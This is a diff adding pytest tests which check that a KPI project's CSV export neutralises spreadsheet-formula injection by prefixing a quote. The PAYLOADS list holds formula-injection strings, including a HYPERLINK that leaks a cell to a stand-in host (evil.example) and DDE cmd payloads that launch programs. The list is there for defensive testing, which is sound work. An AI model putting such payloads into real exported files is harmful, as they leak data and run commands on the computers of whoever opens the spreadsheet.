@@ -1,0 +1,53 @@
+"""Spreadsheet-formula injection: every CSV export neutralises cells that would run as formulas."""
+
+import io
+
+import pandas as pd
+import pytest
+
+from kpi.csv_safety import neutralise_formulas, safe_csv_bytes
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_formula_cells_get_a_leading_quote(payload):
+    df = pd.DataFrame({"title": [payload], "owner": ["ana"]})
+    safe = neutralise_formulas(df)
+    assert safe.loc[0, "title"] == "'" + payload
+    assert safe.loc[0, "owner"] == "ana"
+    back = pd.read_csv(io.BytesIO(safe_csv_bytes(df)), encoding="utf-8-sig", dtype=str)
+    assert back.loc[0, "title"].startswith("'")
+
+
+def test_numbers_dates_and_plain_text_are_untouched():
+    df = pd.DataFrame(
+        {
+            "n": [-5, 3],
+            "when": pd.to_datetime(["2025-01-06", "2025-02-01"]),
+            "text": ["a = b", "ñandú 🧭"],
+            "missing": [None, "x"],
+        }
+    )
+    safe = neutralise_formulas(df)
+    assert safe["n"].tolist() == [-5, 3]
+    assert safe["when"].tolist() == df["when"].tolist()
+    assert safe["text"].tolist() == ["a = b", "ñandú 🧭"]
+    assert pd.isna(safe.loc[0, "missing"])
+    assert df.loc[0, "text"] == "a = b", "the original frame is not modified"
+
+
+def test_column_names_are_neutralised_too():
+    df = pd.DataFrame({"=cmd": ["x"]})
+    assert list(neutralise_formulas(df).columns) == ["'=cmd"]
+
+
+def test_csv_starts_with_bom_for_excel_accents():
+    assert safe_csv_bytes(pd.DataFrame({"a": ["é"]})).startswith(b"\xef\xbb\xbf")
